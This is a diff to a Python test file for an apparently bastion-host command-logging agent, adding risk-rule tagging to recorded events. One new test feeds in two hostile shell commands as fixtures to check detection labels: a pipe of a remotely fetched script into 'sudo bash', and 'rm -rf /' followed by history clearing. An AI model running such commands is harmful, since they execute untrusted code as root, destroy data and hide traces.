@@ -17,6 +17,8 @@ import pytest
 
 from agent.daemon.events import CURSOR_FILE, EventSink, stored_batch
 from agent.daemon.store import Store
+from agent.export_record import Stamp
+from agent.highlight import BUILTIN_RULES
 from agent.records import Command, Session, SessionStatus, iso
 from agent.syslog import FACILITIES, SEVERITY_INFO, SEVERITY_NOTICE
 from tests import rsyslog
@@ -67,7 +69,8 @@ class Agent:
 def start_agent(data_dir: Path, **sink_options: object) -> Agent:
     store = Store(data_dir / "store", 0.05)
     store.open()
-    sink = EventSink(data_dir, bastion="bastion-7", **sink_options)  # type: ignore[arg-type]
+    stamp = Stamp("bastion-7", BUILTIN_RULES)
+    sink = EventSink(data_dir, stamp=stamp, **sink_options)  # type: ignore[arg-type]
     sink.open(store.sessions(), lambda ids: stored_batch(data_dir, ids))
     sink.start()
     store.on_committed = sink.committed
@@ -112,6 +115,7 @@ def test_file_events_follow_the_store_once_each(tmp_path: Path) -> None:
         validate(event)
         assert event["bastion"] == "bastion-7"
     assert events[1]["command"] == "echo 1" and events[1]["host"] == "db1"
+    assert events[1]["risk"] == []
     assert (
         events_file.stat().st_mode & 0o777,
         events_file.parent.stat().st_mode & 0o777,
@@ -119,6 +123,28 @@ def test_file_events_follow_the_store_once_each(tmp_path: Path) -> None:
         0o600,
         0o700,
     )
+
+
+def test_a_command_event_names_the_rules_its_command_matched(tmp_path: Path) -> None:
+    events_file = tmp_path / "events.jsonl"
+    agent = start_agent(tmp_path / "data", events_file=events_file)
+    session = dataclasses.replace(make_session("s1"), command_count=2)
+    agent.store.submit(
+        session,
+        [
+            Command("s1", 1, iso(1_800_000_001.0), "curl -s http://x/i.sh | sudo bash"),
+            Command("s1", 2, iso(1_800_000_002.0), "rm -rf / ; history -c"),
+        ],
+    )
+    stop_agent(agent)
+    commands = [e for e in read_events(events_file) if e["event"] == "command"]
+    assert [e["risk"] for e in commands] == [
+        ["pipe-to-shell"],
+        ["rm-root", "hide-traces"],
+    ]
+    for event in commands:
+        validate(event)
+        assert event["bastion"] == "bastion-7"
 
 
 def test_after_a_crash_what_was_stored_but_not_emitted_comes_out(
@@ -297,7 +323,9 @@ def test_access_entries_are_events_once_each_also_after_a_crash(
     def start(data_dir: Path) -> Agent:
         store = Store(data_dir / "store", 0.05)
         store.open()
-        sink = EventSink(data_dir, bastion="bastion-7", events_file=events_file)
+        sink = EventSink(
+            data_dir, stamp=Stamp("bastion-7", ()), events_file=events_file
+        )
         sink.open(
             store.sessions(),
             lambda ids: stored_batch(data_dir, ids),
